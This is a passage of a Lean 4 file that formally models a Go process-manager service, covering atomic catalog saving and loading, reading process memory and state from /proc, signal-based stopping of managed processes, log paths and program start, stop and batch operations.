/-- The method ensureDirectory creates the directory for the file if it doesn't exist. -/
def ensureDirectory (faults : Faults) (filePath : String) : Option String :=
  let dir := Dir filePath
  if dir = "." ∨ dir = "" then none else faults.mkdirAll dir

/-- SavePrograms saves the program manager data to JSON file with atomic write. -/
def SavePrograms (codec : TimeCodec) (faults : Faults) (filePath : String)
    (pm : RawProgramManager) (d : Disk) : Option String × Disk :=
  match ensureDirectory faults filePath with
  | some e => (some ("failed to create directory: " ++ e), d)
  | none =>
    match encodeManager codec pm with
    | .error e => (some ("failed to encode data: " ++ e), d)
    | .ok v =>
      let tempPath := filePath ++ ".tmp"
      match faults.writeFile tempPath with
      | some fault =>
        (some ("failed to write temp file: " ++ fault.err),
          d.set tempPath (fault.leaves (d.file tempPath)))
      | none =>
        let d1 := d.set tempPath (some (.json v))
        match faults.rename tempPath filePath with
        | some e =>
          (some ("failed to rename temp file: " ++ e),
            match faults.remove tempPath with
            | some _ => d1
            | none => d1.set tempPath none)
        | none => (none, (d1.set filePath (some (.json v))).set tempPath none)

/-- LoadPrograms loads program manager data from JSON file. -/
def LoadPrograms (codec : TimeCodec) (faults : Faults) (filePath : String) (d : Disk) :
    Except String ProgramManager :=
  match d.file filePath with
  | none => .ok NewProgramManager
  | some data =>
    match faults.readFile filePath with
    | some e => .error ("failed to read file: " ++ e)
    | none =>
      match Unmarshal codec data with
      | .error e => .error ("failed to unmarshal data: " ++ e)
      | .ok pm =>
        match pm.Programs with
        | none => .ok { Programs := [], Version := pm.Version }
        | some m => .ok { Programs := m, Version := pm.Version }

/-- ExportPrograms exports programs to a JSON file. The catalog is the Go value handed to
the method, whose strings are arbitrary bytes. -/
def ExportPrograms (codec : TimeCodec) (faults : Faults) (exportPath : String)
    (pm : GoProgramManager) (d : Disk) : Option String × Disk :=
  match encodeGoManager codec pm with
  | .error e => (some ("failed to marshal data: " ++ e), d)
  | .ok v =>
    match faults.writeFile exportPath with
    | some fault =>
      (some ("failed to write export file: " ++ fault.err),
        d.set exportPath (fault.leaves (d.file exportPath)))
    | none => (none, d.set exportPath (some (.json v)))

/-- ImportPrograms imports programs from a JSON file. -/
def ImportPrograms (codec : TimeCodec) (faults : Faults) (importPath : String) (d : Disk) :
    Except String ProgramManager :=
  match d.file importPath with
  | none => .error ("import file does not exist: " ++ importPath)
  | some data =>
    match faults.readFile importPath with
    | some e => .error ("failed to read import file: " ++ e)
    | none =>
      match Unmarshal codec data with
      | .error e => .error ("failed to unmarshal import data: " ++ e)
      | .ok pm =>
        match pm.Programs with
        | none => .ok { Programs := [], Version := pm.Version }
        | some m => .ok { Programs := m, Version := pm.Version }

end OnDisk

/-- A sample codec: an instant is written as that many strokes; the instants above 9999
cannot be written. -/
def TimeCodec.tally : TimeCodec :=
  { format := fun t => if t ≤ 9999 then some (String.mk (List.replicate t 'I')) else none
    parse := fun s => if s.data.all (fun c => c = 'I') then some s.data.length else none }

/-- No system call fails. -/
def Faults.quiet : Faults :=
  { mkdirAll := fun _ => none, writeFile := fun _ => none, rename := fun _ _ => none,
    remove := fun _ => none, readFile := fun _ => none }

/-- A filesystem without files. -/
def Disk.empty : Disk := { file := fun _ => none }

/-! ## utils/process_utils_linux.go: the memory of a process -/

/-- Go `strings.HasPrefix`. -/
def HasPrefix (s sub : String) : Bool := sub.data.isPrefixOf s.data

/-- Go `strings.HasSuffix`. -/
def HasSuffix (s sub : String) : Bool := sub.data.reverse.isPrefixOf s.data.reverse

/-- Go `strings.TrimSuffix`. -/
def TrimSuffix (s sub : String) : String :=
  if HasSuffix s sub then String.mk (s.data.take (s.data.length - sub.data.length)) else s

/-- The value of a decimal digit. -/
def digitVal (c : Char) : Option Nat :=
  if '0'.toNat ≤ c.toNat ∧ c.toNat ≤ '9'.toNat then some (c.toNat - '0'.toNat) else none

/-- The number written by a run of decimal digits, after the digits already read. -/
def parseDigits : List Char → Nat → Option Nat
  | [], acc => some acc
  | c :: cs, acc =>
    match digitVal c with
    | none => none
    | some d => parseDigits cs (acc * 10 + d)

/-- Go `strconv.ParseInt(s, 10, 64)`: an optional sign and at least one digit, within the
range of int64; `none` is an error. -/
def ParseInt (s : String) : Option Int :=
  match s.data with
  | [] => none
  | '+' :: ds =>
    if ds = [] then none
    else (parseDigits ds 0).bind fun n => if n ≤ 9223372036854775807 then some (n : Int) else none
  | '-' :: ds =>
    if ds = [] then none
    else (parseDigits ds 0).bind fun n => if n ≤ 9223372036854775808 then some (-(n : Int)) else none
  | ds => (parseDigits ds 0).bind fun n => if n ≤ 9223372036854775807 then some (n : Int) else none

/-- An int64 product or sum, wrapped to 64 bits. -/
def wrap64 (x : Int) : Int := (x + 9223372036854775808) % 18446744073709551616 - 9223372036854775808

/-- What `fmt.Sscanf(line, "VmRSS: %s", &vmRSS)` leaves in `vmRSS` for a line that starts
with `VmRSS:`. The space of the format must meet a space or the end of the input, then
spaces are skipped and `%s` takes the characters up to the next space; when the scan
fails `vmRSS` keeps its zero value. -/
def scanVmRSS (line : String) : String :=
  match line.data.drop "VmRSS:".length with
  | [] => ""
  | c :: rest =>
    if isSpace c then String.mk (((c :: rest).dropWhile isSpace).takeWhile notSpace)
    else ""

/-- The function getProcessMemoryFromStatm, on the result of reading `/proc/<pid>/statm`. -/
def getProcessMemoryFromStatm (statm : Except String String) : Except String Int :=
  match statm with
  | .error e => .error ("failed to read statm file: " ++ e)
  | .ok data =>
    match Fields data with
    | _ :: pages :: _ =>
      match ParseInt pages with
      | none => .error ("failed to parse resident pages: strconv.ParseInt: parsing " ++
          "\"" ++ pages ++ "\"")
      | some residentPages => .ok (wrap64 (residentPages * 4))
    | _ => .error "invalid statm file format"

/-- The loop of getProcessMemoryOS over the lines of the status file: `none` when the
function returns from inside the loop with the statm value, else the value of `memoryKB`
after the loop. -/
def scanStatusLines : List String → Option Int
  | [] => some 0
  | line :: rest =>
    if HasPrefix line "VmRSS:" then
      let vmRSS := scanVmRSS line
      if HasSuffix vmRSS "kB" then
        match ParseInt (TrimSpace (TrimSuffix vmRSS "kB")) with
        | some kb => some kb
        | none => none
      else some 0
    else scanStatusLines rest

/-- The function getProcessMemoryOS, on the results of reading `/proc/<pid>/status` and
`/proc/<pid>/statm`; the result is memoryKB (the megabyte figure is derived from it). -/
def getProcessMemoryOS (status statm : Except String String) : Except String Int :=
  match status with
  | .error e => .error ("failed to read status file: " ++ e)
  | .ok data =>
    match scanStatusLines ((splitNewline data.data).map String.mk) with
    | none => getProcessMemoryFromStatm statm
    | some memoryKB =>
      if memoryKB = 0 then getProcessMemoryFromStatm statm else .ok memoryKB

/-! ## main.go: the initial data file -/

/-- The bytes that main writes when there is no data file: the JSON text
`{"programs":[]}`, an object whose member `programs` is an empty array. -/
def initialData : Content := .json (.obj [("programs", .arr [])])

/-! ## handlers/log_handler.go and its route -/

/-- The UTF-8 bytes of a character. -/
def utf8Encode (c : Char) : List Nat :=
  if c.toNat < 0x80 then [c.toNat]
  else if c.toNat < 0x800 then [0xC0 + c.toNat / 64, 0x80 + c.toNat % 64]
  else if c.toNat < 0x10000 then
    [0xE0 + c.toNat / 4096, 0x80 + c.toNat / 64 % 64, 0x80 + c.toNat % 64]
  else
    [0xF0 + c.toNat / 262144, 0x80 + c.toNat / 4096 % 64, 0x80 + c.toNat / 64 % 64,
      0x80 + c.toNat % 64]

/-- The bytes of a Go string. -/
def utf8Bytes (s : String) : List Nat := (s.data.map utf8Encode).flatten

/-! ## Go strings that are valid UTF-8 -/

/-- A Go string is valid UTF-8 when the coercion of `json.Marshal` leaves its bytes as
they are. -/
def validUTF8 (s : GoString) : Prop := utf8Bytes (toValidUTF8 s) = s

instance (s : GoString) : Decidable (validUTF8 s) := by
  unfold validUTF8
  infer_instance

/-- Every string of the record is valid UTF-8. -/
def GoProgram.Valid (g : GoProgram) : Prop :=
  validUTF8 g.ID ∧ validUTF8 g.Name ∧ validUTF8 g.Command ∧ validUTF8 g.WorkingDir ∧
    validUTF8 g.Description ∧ validUTF8 g.Status ∧ validUTF8 g.RestartPolicy

instance (g : GoProgram) : Decidable g.Valid := by
  unfold GoProgram.Valid
  infer_instance

/-- The version, every key and every string of every record are valid UTF-8. -/
def GoProgramManager.Valid (pm : GoProgramManager) : Prop :=
  validUTF8 pm.Version ∧
    ∀ m, pm.Programs = some m → ∀ e ∈ m, validUTF8 e.1 ∧ e.2.Valid

/-- The record as Go holds it: every string as its UTF-8 bytes. -/
def Program.bytes (p : Program) : GoProgram :=
  { ID := utf8Bytes p.ID, Name := utf8Bytes p.Name, Command := utf8Bytes p.Command,
    WorkingDir := utf8Bytes p.WorkingDir, Description := utf8Bytes p.Description,
    Status := utf8Bytes p.Status, PID := p.PID, Port := p.Port, CreatedAt := p.CreatedAt,
    UpdatedAt := p.UpdatedAt, AutoStart := p.AutoStart,
    RestartPolicy := utf8Bytes p.RestartPolicy }

/-- The record with every string coerced to valid UTF-8. -/
def GoProgram.written (g : GoProgram) : Program :=
  { ID := toValidUTF8 g.ID, Name := toValidUTF8 g.Name, Command := toValidUTF8 g.Command,
    WorkingDir := toValidUTF8 g.WorkingDir, Description := toValidUTF8 g.Description,
    Status := toValidUTF8 g.Status, PID := g.PID, Port := g.Port, CreatedAt := g.CreatedAt,
    UpdatedAt := g.UpdatedAt, AutoStart := g.AutoStart,
    RestartPolicy := toValidUTF8 g.RestartPolicy }

/-- The map with every key and every string of every record coerced to valid UTF-8. -/
def writtenMap (m : List (GoString × GoProgram)) : List (String × Program) :=
  m.map fun e => (toValidUTF8 e.1, e.2.written)

/-- The Go slice expression `s[lo:hi]` on the bytes of a string; `none` is the run-time
panic for bounds out of range. -/
def sliceBytes (s : List Nat) (lo hi : Int) : Option (List Nat) :=
  if 0 ≤ lo ∧ lo ≤ hi ∧ hi ≤ (s.length : Int) then
    some ((s.drop lo.toNat).take (hi.toNat - lo.toNat))
  else none

/-- The variable `{id}` of the route `/api/logs/{id}` for a request path: the rest of the
path after `/api/logs/`, when it is not empty and holds no slash. -/
def logsRouteID (path : String) : Option String :=
  if HasPrefix path "/api/logs/" then
    let id := path.data.drop "/api/logs/".length
    if id ≠ [] ∧ ¬ '/' ∈ id then some (String.mk id) else none
  else none

/-- What GetProgramLogs does with a GET request, up to the call of the log service. -/
inductive LogQuery where
  | badRequest (msg : String)
  | getLogs (programID : List Nat)
deriving DecidableEq, Repr

namespace LogHandler

/-- The expression for `programID` in GetProgramLogs:
`r.URL.Path[len("/api/programs/"):len(r.URL.Path)-len("/logs")]`. -/
def programID (path : String) : Option (List Nat) :=
  sliceBytes (utf8Bytes path) ((utf8Bytes "/api/programs/").length : Int)
    (((utf8Bytes path).length : Int) - ((utf8Bytes "/logs").length : Int))

/-- GetProgramLogs for a GET request with the given path; `none` is a panic. -/
def GetProgramLogs (path : String) : Option LogQuery :=
  match programID path with
  | none => none
  | some id =>
    if id = [] then some (.badRequest "Program ID is required") else some (.getLogs id)

end LogHandler

/-! ## utils/process_utils.go: the path of the log file -/

/-- Go `filepath.Join` on Unix: the elements from the first non-empty one on, joined by
slashes and cleaned. -/
def Join (elem : List String) : String :=
  match elem.dropWhile fun e => e = "" with
  | [] => ""
  | rest => Clean (String.intercalate "/" rest)

/-- The variable `logPath` of ProcessManager.StartProgram, for the log directory, the name
of the program and the formatted time. -/
def ProcessManager.logPath (logDir name stamp : String) : String :=
  Join [logDir, "program_" ++ name ++ "_" ++ stamp ++ ".log"]

/-! ## The outside world -/

/-- The two signals the runner sends. -/
inductive Signal where
  | SIGTERM
  | SIGKILL
deriving DecidableEq, Repr

/-- Everything read from outside the program. Each oracle is indexed by the tick at which
the call is made, so answers may change from one call to the next. -/
structure Env where
  /-- Configured log directory of the process manager. -/
  logDir : String
  /-- Result of `time.Now()`. -/
  now : Nat → Time
  /-- Result of `time.Now().Format("20060102_150405")`. -/
  stamp : Nat → String
  /-- Result of `generateProgramID()`. -/
  newID : Nat → String
  /-- Iteration order chosen for a `range` over the programs map. -/
  order : Nat → List String
  /-- Failure of `os.ReadFile` or `json.Unmarshal` on the catalog file. -/
  readErr : Nat → Option String
  /-- Failure of `ensureDirectory` in SavePrograms. -/
  dirErr : Nat → Option String
  /-- Failure of `os.WriteFile` on the temp file. -/
  writeErr : Nat → Option String
  /-- Failure of `os.Rename` of the temp file over the catalog file. -/
  renameErr : Nat → Option String
  /-- Content of `/proc/<pid>/status`, when readable. -/
  procStatus : Nat → Int → Option String
  /-- Content of `/proc/<pid>/cmdline`, when readable. -/
  cmdline : Nat → Int → Option String
  /-- Process group of a pid, from `/proc/<pid>/stat`. -/
  pgid : Nat → Int → Except String Int
  /-- Failure of `syscall.Kill(target, sig)`. -/
  signal : Nat → Int → Signal → Option String
  /-- Failure of `os.MkdirAll(logDir)`. -/
  mkdirLogErr : Nat → Option String
  /-- Failure of `os.Create` of the log file `name` in directory `dir`. -/
  createErr : Nat → String → String → Option String
  /-- Does `os.Stat(path)` succeed? -/
  statOk : Nat → String → Bool
  /-- Result of `cmd.Start()` for executable, arguments and `cmd.Dir`: the child pid. -/
  spawn : Nat → String → List String → String → Except String PNat
  /-- Result of `CommandValidator.ValidateCommand`. -/
  validateCommand : Nat → String → Option String
  /-- Result of `CommandValidator.ValidateWorkingDir`. -/
  validateWorkingDir : Nat → String → Option String
  /-- Resident memory in kB, from `getProcessMemoryOS`. -/
  memoryKB : Nat → Int → Except String Int

/-- The state outside the program's memory: the catalog file and the tick counter. -/
structure World where
  /-- The catalog file: `none` when it does not exist. -/
  file : Option ProgramManager
  tick : Nat
deriving DecidableEq, Repr

/-- The catalog a successful load returns: a missing file is an empty catalog. -/
def World.catalog (w : World) : ProgramManager :=
  match w.file with
  | none => NewProgramManager
  | some pm => pm

/-- Advance the tick counter. -/
def World.next (w : World) : World := { w with tick := w.tick + 1 }

/-! ## storage/file_storage.go -/

namespace FileStorage

/-- SavePrograms: temp file then rename; on any failure the catalog file is untouched. -/
def SavePrograms (env : Env) (pm : ProgramManager) (w : World) : Option String × World :=
  match env.dirErr w.tick with
  | some e => (some ("failed to create directory: " ++ e), w.next)
  | none =>
    match env.writeErr w.tick with
    | some e => (some ("failed to write temp file: " ++ e), w.next)
    | none =>
      match env.renameErr w.tick with
      | some e => (some ("failed to rename temp file: " ++ e), w.next)
      | none => (none, { file := some pm, tick := w.tick + 1 })

/-- LoadPrograms: an absent file is the empty catalog. -/
def LoadPrograms (env : Env) (w : World) : Except String ProgramManager × World :=
  match w.file with
  | none => (.ok NewProgramManager, w.next)
  | some pm =>
    match env.readErr w.tick with
    | some e => (.error ("failed to read file: " ++ e), w.next)
    | none => (.ok pm, w.next)

end FileStorage

/-! ## utils/process_utils_linux.go -/

/-- The loop of isProcessRunningOS over the lines of the status file: the first line that
starts with `State:` decides; a state mentioning Z (zombie) or X (dead) is not running. -/
def stateRunning : List (List Char) → Bool
  | [] => false
  | line :: rest =>
    if "State:".data.isPrefixOf line then
      let state := trimSpaceChars (line.drop "State:".data.length)
      !containsChars state ['Z'] && !containsChars state ['X']
    else stateRunning rest

/-- Linux isProcessRunningOS. -/
def isProcessRunningOS (env : Env) (pid : Int) (k : Nat) : Bool × Nat :=
  if pid ≤ 0 then (false, k)
  else
    match env.procStatus k pid with
    | none => (false, k + 1)
    | some data => (stateRunning (splitNewline data.data), k + 1)

/-- Linux validateProcess: does the command line of `pid` contain the first token of
`expectedCommand`? -/
def validateProcess (env : Env) (pid : Int) (expectedCommand : String) (k : Nat) : Bool × Nat :=
  if pid ≤ 0 then (false, k)
  else
    match env.cmdline k pid with
    | none => (false, k + 1)
    | some data =>
      let cmdline := TrimSpace (replaceNul data)
      if cmdline = "" then (false, k + 1)
      else
        match Fields expectedCommand with
        | [] => (false, k + 1)
        | first :: _ => (Contains cmdline first, k + 1)

/-- The polling loops of killProcess: up to `n` probes; `true` once the process is gone. -/
def waitGone (env : Env) (pid : Int) : Nat → Nat → Bool × Nat
  | 0, k => (false, k)
  | n + 1, k =>
    match isProcessRunningOS env pid k with
    | (false, k1) => (true, k1)
    | (true, k1) => waitGone env pid n k1

/-- Linux killIndividualProcess. -/
def killIndividualProcess (env : Env) (pid : Int) (k : Nat) : Option String × Nat :=
  match env.signal k pid Signal.SIGTERM with
  | some e => (some ("failed to send SIGTERM: " ++ e), k + 1)
  | none =>
    match waitGone env pid 20 (k + 1) with
    | (true, k1) => (none, k1)
    | (false, k1) =>
      match env.signal k1 pid Signal.SIGKILL with
      | some e => (some ("failed to send SIGKILL: " ++ e), k1 + 1)
      | none =>
        match waitGone env pid 10 (k1 + 1) with
        | (true, k2) => (none, k2)
        | (false, k2) =>
          (some ("process " ++ toString pid ++ " did not terminate after kill signal"), k2)

/-- Linux killProcess: signal the process group, escalate, give up after the second wait. -/
def killProcess (env : Env) (pid : Int) (k : Nat) : Option String × Nat :=
  if pid ≤ 0 then (some "invalid process ID", k)
  else
    match env.pgid k pid with
    | .error _ => killIndividualProcess env pid (k + 1)
    | .ok pgid =>
      match env.signal (k + 1) (-pgid) Signal.SIGTERM with
      | some _ => killIndividualProcess env pid (k + 2)
      | none =>
        match waitGone env pid 30 (k + 2) with
        | (true, k1) => (none, k1)
        | (false, k1) =>
          match env.signal k1 (-pgid) Signal.SIGKILL with
          | some _ => killIndividualProcess env pid (k1 + 1)
          | none =>
            match waitGone env pid 20 (k1 + 1) with
            | (true, k2) => (none, k2)
            | (false, k2) =>
              -- killChildProcesses(pgid) only sends signals
              (some ("process " ++ toString pid ++ " did not terminate after kill signal"),
                k2 + 1)

/-! ## utils/process_utils.go -/

namespace ProcessManager

/-- IsProcessRunning checks if a process with the given PID is running. -/
def IsProcessRunning (env : Env) (pid : Int) (k : Nat) : Bool × Nat :=
  if pid ≤ 0 then (false, k) else isProcessRunningOS env pid k

/-- GetProcessStatus returns the status of a process. -/
def GetProcessStatus (env : Env) (pid : Int) (k : Nat) : String × Nat :=
  match IsProcessRunning env pid k with
  | (true, k1) => ("running", k1)
  | (false, k1) => ("stopped", k1)

/-- StartProcess starts a new process with the given command and working directory. -/
def StartProcess (env : Env) (command workingDir : String) (k : Nat) : Except String Int × Nat :=
  match Fields command with
  | [] => (.error "empty command", k)
  | cmdName :: cmdArgs =>
    let logFileName := "process_" ++ env.stamp k ++ ".log"
    match env.createErr (k + 1) env.logDir logFileName with
    | some e => (.error ("failed to create log file: " ++ e), k + 2)
    | none =>
      let dir := if workingDir ≠ "" ∧ env.statOk (k + 2) workingDir = true then workingDir else ""
      match env.spawn (k + 3) cmdName cmdArgs dir with
      | .error e => (.error ("failed to start process: " ++ e), k + 4)
      | .ok pid =>
        match IsProcessRunning env ((pid : Nat) : Int) (k + 4) with
        | (false, k1) => (.error "process started but failed to remain running", k1)
        | (true, k1) => (.ok ((pid : Nat) : Int), k1)

/-- StopProcess stops a process by its PID. -/
def StopProcess (env : Env) (pid : Int) (k : Nat) : Option String × Nat :=
  if pid ≤ 0 then (some "invalid process ID", k)
  else
    match IsProcessRunning env pid k with
    | (false, k1) => (some ("process with PID " ++ toString pid ++ " not found"), k1)
    | (true, k1) => killProcess env pid k1

/-- StartProgram starts a program with the given configuration. The returned Program is
the value left behind the pointer argument. -/
def StartProgram (env : Env) (program : Program) (k : Nat) : (Option String × Program) × Nat :=
  if program.Command = "" then ((some "program command is required", program), k)
  else
    match env.mkdirLogErr k with
    | some e => ((some ("failed to create log directory: " ++ e), program), k + 1)
    | none =>
      match Fields program.Command with
      | [] => ((some "empty command", program), k + 1)
      | cmdName :: cmdArgs =>
        let logFileName := "program_" ++ program.Name ++ "_" ++ env.stamp (k + 1) ++ ".log"
        match env.createErr (k + 2) env.logDir logFileName with
        | some e => ((some ("failed to create log file: " ++ e), program), k + 3)
        | none =>
          let dir :=
            if program.WorkingDir ≠ "" ∧ env.statOk (k + 3) program.WorkingDir = true
            then program.WorkingDir else ""
          match env.spawn (k + 4) cmdName cmdArgs dir with
          | .error e => ((some ("failed to start process: " ++ e), program), k + 5)
          | .ok pid =>
            match IsProcessRunning env ((pid : Nat) : Int) (k + 5) with
            | (false, k1) =>
              ((some "process started but failed to remain running", program), k1)
            | (true, k1) =>
              ((none, { program with Status := "running", PID := ((pid : Nat) : Int) }), k1)

/-- StopProgram stops a running program. -/
def StopProgram (env : Env) (program : Program) (k : Nat) : (Option String × Program) × Nat :=
  if program.PID ≤ 0 then ((none, { program with Status := "stopped", PID := 0 }), k)
  else
    match IsProcessRunning env program.PID k with
    | (false, k1) => ((none, { program with Status := "stopped", PID := 0 }), k1)
    | (true, k1) =>
      match StopProcess env program.PID k1 with
      | (some e, k2) => ((some ("failed to stop program: " ++ e), program), k2)
      | (none, k2) => ((none, { program with Status := "stopped", PID := 0 }), k2)

/-- GetProgramStatus returns the actual status of a program by checking the process. -/
def GetProgramStatus (env : Env) (program : Program) (k : Nat) :
    (String × Int × Option String) × Nat :=
  if program.PID ≤ 0 then (("stopped", 0, none), k)
  else
    match IsProcessRunning env program.PID k with
    | (false, k1) => (("stopped", 0, none), k1)
    | (true, k1) =>
      match validateProcess env program.PID program.Command k1 with
      | (false, k2) => (("stopped", 0, none), k2)
      | (true, k2) => (("running", program.PID, none), k2)

end ProcessManager

/-- Run a process-manager action, which only advances the tick, inside a World. -/
def World.withTick (w : World) (k : Nat) : World := { w with tick := k }

/-! ## services/program_service.go -/

namespace ProgramService

/-- GetAllPrograms retrieves all programs. -/
def GetAllPrograms (env : Env) (w : World) : Except String (List Program) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) => (.ok (pm.GetAllPrograms (env.order w1.tick)), w1.next)

/-- GetProgramByID retrieves a specific program by ID. -/
def GetProgramByID (env : Env) (id : String) (w : World) : Except String Program × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (.error ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match pm.GetProgramByID id with
    | none => (.error ("program not found: " ++ id), w1)
    | some program => (.ok program, w1)

/-- Is there a record with this name whose ID field is not `id`? (the duplicate-name loop) -/
def nameTaken (pm : ProgramManager) (name id : String) : Bool :=
  pm.Programs.any fun e => e.2.Name = name && e.2.ID != id

/-- AddProgram adds a new program with validation. -/
def AddProgram (env : Env) (program : Program) (w : World) : Option String × World :=
  if program.Name = "" then (some "program name is required", w)
  else if program.Command = "" then (some "program command is required", w)
  else
    match env.validateCommand w.tick program.Command with
    | some e => (some ("invalid command: " ++ e), w.next)
    | none =>
      let w1 := w.next
      match (if program.WorkingDir ≠ "" then env.validateWorkingDir w1.tick program.WorkingDir
             else none) with
      | some e => (some ("invalid working directory: " ++ e), w1.next)
      | none =>
        let w2 := w1.next
        match FileStorage.LoadPrograms env w2 with
        | (.error e, w3) => (some ("failed to load programs: " ++ e), w3)
        | (.ok pm, w3) =>
          if nameTaken pm program.Name program.ID = true then
            (some ("program with name " ++ "\x27" ++ program.Name ++ "\x27" ++ " already exists"), w3)
          else
            let now := env.now w3.tick
            let program :=
              if program.CreatedAt = 0 then { program with CreatedAt := now } else program
            let program := { program with UpdatedAt := now }
            let pm := pm.AddProgram program (env.now (w3.tick + 1)) (env.now (w3.tick + 2))
            match FileStorage.SavePrograms env pm (w3.withTick (w3.tick + 3)) with
            | (some e, w4) => (some ("failed to save program: " ++ e), w4)
            | (none, w4) => (none, w4)

/-- UpdateProgram updates an existing program. -/
def UpdateProgram (env : Env) (id : String) (program : Program) (w : World) :
    Option String × World :=
  if program.Name = "" then (some "program name is required", w)
  else if program.Command = "" then (some "program command is required", w)
  else
    match env.validateCommand w.tick program.Command with
    | some e => (some ("invalid command: " ++ e), w.next)
    | none =>
      let w1 := w.next
      match (if program.WorkingDir ≠ "" then env.validateWorkingDir w1.tick program.WorkingDir
             else none) with
      | some e => (some ("invalid working directory: " ++ e), w1.next)
      | none =>
        let w2 := w1.next
        match FileStorage.LoadPrograms env w2 with
        | (.error e, w3) => (some ("failed to load programs: " ++ e), w3)
        | (.ok pm, w3) =>
          if nameTaken pm program.Name id = true then
            (some ("program with name " ++ "\x27" ++ program.Name ++ "\x27" ++ " already exists"), w3)
          else
            let program := { program with UpdatedAt := env.now w3.tick }
            match pm.UpdateProgram id program (env.now (w3.tick + 1)) with
            | (_, false) => (some ("program not found: " ++ id), w3.withTick (w3.tick + 2))
            | (pm1, true) =>
              match FileStorage.SavePrograms env pm1 (w3.withTick (w3.tick + 2)) with
              | (some e, w4) => (some ("failed to save program: " ++ e), w4)
              | (none, w4) => (none, w4)

/-- StartProgram starts a program. The returned Program is the value left behind the
pointer argument. -/
def StartProgram (env : Env) (program : Program) (w : World) :
    (Option String × Program) × World :=
  if program.Status = "running" then ((some "program is already running", program), w)
  else if program.Command = "" then ((some "program command is required", program), w)
  else
    match FileStorage.LoadPrograms env w with
    | (.error e, w1) => ((some ("failed to load programs: " ++ e), program), w1)
    | (.ok pm, w1) =>
      match pm.GetProgramByID program.ID with
      | none => ((some ("program not found: " ++ program.ID), program), w1)
      | some storedProgram =>
        match ProcessManager.StartProgram env storedProgram w1.tick with
        | ((some e, _), k2) =>
          ((some ("failed to start program: " ++ e), program), w1.withTick k2)
        | ((none, storedProgram), k2) =>
          let storedProgram := { storedProgram with UpdatedAt := env.now k2 }
          match pm.UpdateProgram program.ID storedProgram (env.now (k2 + 1)) with
          | (_, false) =>
            ((some ("program not found: " ++ program.ID), program), w1.withTick (k2 + 2))
          | (pm1, true) =>
            match FileStorage.SavePrograms env pm1 (w1.withTick (k2 + 2)) with
            | (some e, w3) => ((some ("failed to save program: " ++ e), program), w3)
            | (none, w3) => ((none, storedProgram), w3)

/-- StopProgram stops a program. The returned Program is the value left behind the
pointer argument. -/
def StopProgram (env : Env) (program : Program) (w : World) :
    (Option String × Program) × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => ((some ("failed to load programs: " ++ e), program), w1)
  | (.ok pm, w1) =>
    match pm.GetProgramByID program.ID with
    | none => ((some ("program not found: " ++ program.ID), program), w1)
    | some storedProgram =>
      match ProcessManager.StopProgram env storedProgram w1.tick with
      | ((some e, _), k2) =>
        ((some ("failed to stop program: " ++ e), program), w1.withTick k2)
      | ((none, storedProgram), k2) =>
        let storedProgram := { storedProgram with UpdatedAt := env.now k2 }
        match pm.UpdateProgram program.ID storedProgram (env.now (k2 + 1)) with
        | (_, false) =>
          ((some ("program not found: " ++ program.ID), program), w1.withTick (k2 + 2))
        | (pm1, true) =>
          match FileStorage.SavePrograms env pm1 (w1.withTick (k2 + 2)) with
          | (some e, w3) => ((some ("failed to save program: " ++ e), program), w3)
          | (none, w3) => ((none, storedProgram), w3)

/-- DeleteProgram removes a program, stopping it first when its record says running. -/
def DeleteProgram (env : Env) (id : String) (w : World) : Option String × World :=
  match FileStorage.LoadPrograms env w with
  | (.error e, w1) => (some ("failed to load programs: " ++ e), w1)
  | (.ok pm, w1) =>
    match pm.GetProgramByID id with
    | none => (some ("program not found: " ++ id), w1)
    | some program =>
      match (if program.Status = "running" then StopProgram env program w1
             else ((none, program), w1)) with
      | ((some e, _), w2) => (some ("failed to stop program before deletion: " ++ e), w2)
      | ((none, _), w2) =>
        match pm.RemoveProgram id with
        | (_, false) => (some ("program not found: " ++ id), w2)
        | (pm1, true) =>
          match FileStorage.SavePrograms env pm1 w2 with
          | (some e, w3) => (some ("failed to save programs: " ++ e), w3)
          | (none, w3) => (none, w3)

end ProgramService

/-! ## services/program_service.go: batch operations -/

/-- A value stored in the result map of a batch operation: `{"error": msg}`,
`{"status": s}`, or the summary `{"total", "success", "errors"}`. -/
inductive BatchEntry where
  | error (msg : String)
  | status (s : String)
  | summary (total success errors : Nat)
deriving DecidableEq, Repr

/-- Go map read on the result map of a batch operation. -/
def resultGet (m : List (String × BatchEntry)) (k : String) : Option BatchEntry :=
  match m with
  | [] => none
  | (k1, v) :: rest => if k1 = k then some v else resultGet rest k

/-- Go map write `results[k] = v` on the result map of a batch operation. -/
def resultSet (m : List (String × BatchEntry)) (k : String) (v : BatchEntry) :
    List (String × BatchEntry) :=
  match m with
  | [] => [(k, v)]
  | (k1, v1) :: rest => if k1 = k then (k, v) :: rest else (k1, v1) :: resultSet rest k v

namespace ProgramService

/-- The loop of BatchStartPrograms; `s` and `e` are successCount and errorCount. -/
def batchStartLoop (env : Env) :
    List String → List (String × BatchEntry) → Nat → Nat → World →
      (List (String × BatchEntry) × Nat × Nat) × World
  | [], results, s, e, w => ((results, s, e), w)
  | id :: rest, results, s, e, w =>
    match GetProgramByID env id w with
    | (.error err, w1) =>
      batchStartLoop env rest (resultSet results id (.error err)) s (e + 1) w1
    | (.ok program, w1) =>
      match StartProgram env program w1 with
      | ((some err, _), w2) =>
        batchStartLoop env rest (resultSet results id (.error err)) s (e + 1) w2
      | ((none, _), w2) =>
        batchStartLoop env rest (resultSet results id (.status "started")) (s + 1) e w2

/-- BatchStartPrograms starts multiple programs. -/
def BatchStartPrograms (env : Env) (ids : List String) (w : World) :
    (List (String × BatchEntry) × Option String) × World :=
  match batchStartLoop env ids [] 0 0 w with
  | ((results, s, e), w1) =>
    ((resultSet results "summary" (.summary ids.length s e), none), w1)

/-- The loop of BatchStopPrograms; `s` and `e` are successCount and errorCount. -/
def batchStopLoop (env : Env) :
    List String → List (String × BatchEntry) → Nat → Nat → World →
      (List (String × BatchEntry) × Nat × Nat) × World
  | [], results, s, e, w => ((results, s, e), w)
  | id :: rest, results, s, e, w =>
    match GetProgramByID env id w with
    | (.error err, w1) =>
      batchStopLoop env rest (resultSet results id (.error err)) s (e + 1) w1
    | (.ok program, w1) =>
      match StopProgram env program w1 with
      | ((some err, _), w2) =>
        batchStopLoop env rest (resultSet results id (.error err)) s (e + 1) w2
      | ((none, _), w2) =>
